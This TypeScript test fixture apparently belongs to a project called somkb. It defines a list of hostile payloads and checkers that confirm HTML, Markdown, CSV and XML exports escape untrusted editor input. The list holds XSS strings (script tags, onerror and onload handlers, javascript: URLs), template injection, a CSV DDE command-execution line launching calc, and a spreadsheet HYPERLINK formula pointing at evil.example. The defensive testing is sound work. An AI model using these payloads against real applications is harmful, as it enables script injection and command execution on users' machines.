import { DOMParser } from '@xmldom/xmldom';
import MarkdownIt from 'markdown-it';
import { parse } from 'parse5';
import type { DefaultTreeAdapterMap } from 'parse5';

/**
 * TEST FIXTURE: what a hostile editor may type into any field, one payload per attack. Every
 * element a payload would inject carries the attribute `data-xss`, and every payload holds its own
 * marker `xss-<n>`: a page where an element has `data-xss` ran markup from the data; a page that
 * shows the marker as text escaped it. The payloads hold no line break (a field is one line).
 */
export const HOSTILE_PAYLOADS: readonly string[] = [
  '<script data-xss>alert("xss-1")</script>',
  '"><img data-xss src=x onerror=alert("xss-2")>',
  "'><svg data-xss onload=alert('xss-3')>",
  'javascript:alert("xss-4") [xss-4](javascript:alert(4)) ![xss-4](javascript:alert(4))',
  '</textarea></title></style></noscript><script data-xss>alert("xss-5")</script>',
  `" onmouseover="alert('xss-6')" data-xss="1' onfocus='alert(6)' autofocus data-xss='`,
  '\u202Egnp.exe\u202C \u200Bxss-7\u200D\u2066 \u2067مرحبا\u2069\uFEFF',
  '{{constructor.constructor(\'alert("xss-8")\')()}} ${alert(8)} <%= 8 %>',
  '=HYPERLINK("http://evil.example/?xss-9","click")',
  ']]></w:t></w:r><w:r><w:t>xss-10</w:t>&amp;<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "e">]>&e;\u0001\u000B\uFFFE',
  '<a data-xss href="javascript:alert(\'xss-11\')">xss</a><iframe data-xss src="javascript:alert(11)"></iframe>',
  '<base data-xss href="//evil.example/"><meta data-xss http-equiv="refresh" content="0;url=javascript:alert(12)">xss-12',
  '&lt;img src=x onerror=alert(13) data-xss&gt; &#60;script&#62;xss-13',
  "+cmd|' /C calc'!A0 xss-14",
  '-2+3+cmd xss-15',
  '@SUM(1+1)*cmd xss-16',
];

/** The payloads that are markup: left unescaped in a page (text or quoted attribute), they inject an element or a handler. */
export const MARKUP_PAYLOADS: readonly string[] = HOSTILE_PAYLOADS.filter(
  (payload) => payload.includes('data-xss') && !payload.startsWith('&lt;'),
);

/** Payload `n` (cycling), for the `n`th field written. */
export function hostilePayload(n: number): string {
  return HOSTILE_PAYLOADS[n % HOSTILE_PAYLOADS.length] ?? '';
}

/** Elements a page of somkb never holds, whatever the data. */
const NEVER_ELEMENTS = new Set(['iframe', 'object', 'embed', 'base', 'frame', 'frameset', 'applet']);

/** Attributes whose value is a URL a browser follows or loads. */
const URL_ATTRIBUTES = new Set([
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'poster',
  'data',
  'srcset',
]);

/** The scheme of a URL as a browser reads it: control characters and spaces dropped, lower case. */
function schemeOf(url: string): string {
  // eslint-disable-next-line no-control-regex
  const squeezed = url.replace(/[\u0000-\u0020\u007F-\u009F]/g, '').toLowerCase();
  return /^([a-z][a-z0-9+.-]*):/.exec(squeezed)?.[1] ?? '';
}

type Node = DefaultTreeAdapterMap['node'];
type Element = DefaultTreeAdapterMap['element'];

function isElement(node: Node): node is Element {
  return 'tagName' in node;
}

/** Every element of a parse5 tree, in document order (template contents included). */
function* elementsOf(node: Node): Generator<Element> {
  if (isElement(node)) yield node;
  const children = 'childNodes' in node ? node.childNodes : [];
  for (const child of children) yield* elementsOf(child);
  if (isElement(node) && node.tagName === 'template' && 'content' in node) {
    yield* elementsOf(node.content);
  }
}

/** The text of a parse5 tree (text nodes joined, script and style included). */
function textOf(node: Node): string {
  if (node.nodeName === '#text') return (node as DefaultTreeAdapterMap['textNode']).value;
  const children = 'childNodes' in node ? node.childNodes : [];
  return children.map(textOf).join('');
}

/**
 * What executable or injected markup an HTML document holds, parsed as a browser parses it: an
 * element or attribute a payload injects (`data-xss`), an inline event handler (`on…`), an inline
 * script or one from elsewhere than `allowedScripts`, an element somkb never writes (`iframe`,
 * `base`, …), a `<meta http-equiv="refresh">`, a URL attribute with a `javascript:`, `vbscript:` or
 * `data:` scheme. Each problem is one line naming the element; none is an empty array.
 */
export function findExecutableMarkup(html: string, allowedScripts: readonly string[] = []): string[] {
  const problems: string[] = [];
  for (const element of elementsOf(parse(html))) {
    const where = `<${element.tagName}>`;
    if (NEVER_ELEMENTS.has(element.tagName)) problems.push(`${where} element`);
    for (const attribute of element.attrs) {
      const name = attribute.name.toLowerCase();
      if (name === 'data-xss') problems.push(`${where} injected (data-xss)`);
      if (name.startsWith('on')) problems.push(`${where} event handler ${name}`);
      if (URL_ATTRIBUTES.has(name) && ['javascript', 'vbscript', 'data'].includes(schemeOf(attribute.value)))
        problems.push(`${where} ${name}="${attribute.value}"`);
      if (name === 'http-equiv' && attribute.value.toLowerCase() === 'refresh')
        problems.push(`${where} http-equiv refresh`);
    }
    if (element.tagName === 'script') {
      const src = element.attrs.find((attribute) => attribute.name === 'src')?.value;
      if (src === undefined) {
        if (textOf(element).trim() !== '') problems.push(`${where} inline script`);
      } else if (!allowedScripts.includes(src)) problems.push(`${where} src="${src}"`);
    }
  }
  return problems;
}

/** The text a reader sees in an HTML document (every text node, as parsed). */
export function htmlText(html: string): string {
  return textOf(parse(html));
}

const markdown = new MarkdownIt({ html: true, linkify: true });
// A viewer that follows any link: the file itself must not hold a `javascript:` link, whether or
// not a viewer refuses it (markdown-it refuses it by default).
markdown.validateLink = () => true;

/**
 * A Markdown file as a viewer that lets raw HTML through and follows every link renders it
 * (CommonMark with HTML and links found in text: markdown-it with `html: true, linkify: true` and
 * no link validation).
 */
export function renderMarkdownHtml(text: string): string {
  return markdown.render(text);
}

/** The fields of a CSV record set (RFC 4180: quoted fields, doubled quotes, CRLF records). */
export function csvCells(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text[at] ?? '';
    if (quoted) {
      if (character === '"' && text[at + 1] === '"') {
        field += '"';
        at += 1;
      } else if (character === '"') quoted = false;
      else field += character;
    } else if (character === '"') quoted = true;
    else if (character === ',') {
      row.push(field);
      field = '';
    } else if (character === '\r' && text[at + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      at += 1;
    } else field += character;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** CSV cells a spreadsheet would take for a formula: those starting with `=`, `+`, `-`, `@`, tab or CR. */
export function formulaCells(text: string): string[] {
  return csvCells(text.replace(/^\uFEFF/, ''))
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

/**
 * The problems an XML part has for a strict parser (not well-formed, or holding a DOCTYPE, which
 * no part of a Word file holds); none is an empty array.
 */
export function xmlProblems(xml: string): string[] {
  const problems: string[] = [];
  try {
    const document = new DOMParser({
      onError: (level, message) => {
        problems.push(`${level}: ${message}`);
      },
    }).parseFromString(xml, 'text/xml');
    if (document.doctype !== null) problems.push('a DOCTYPE');
  } catch (error) {
    // A fatal error stops the parser after it was reported through onError.
    if (problems.length === 0) problems.push(String(error));
  }
  return problems;
}
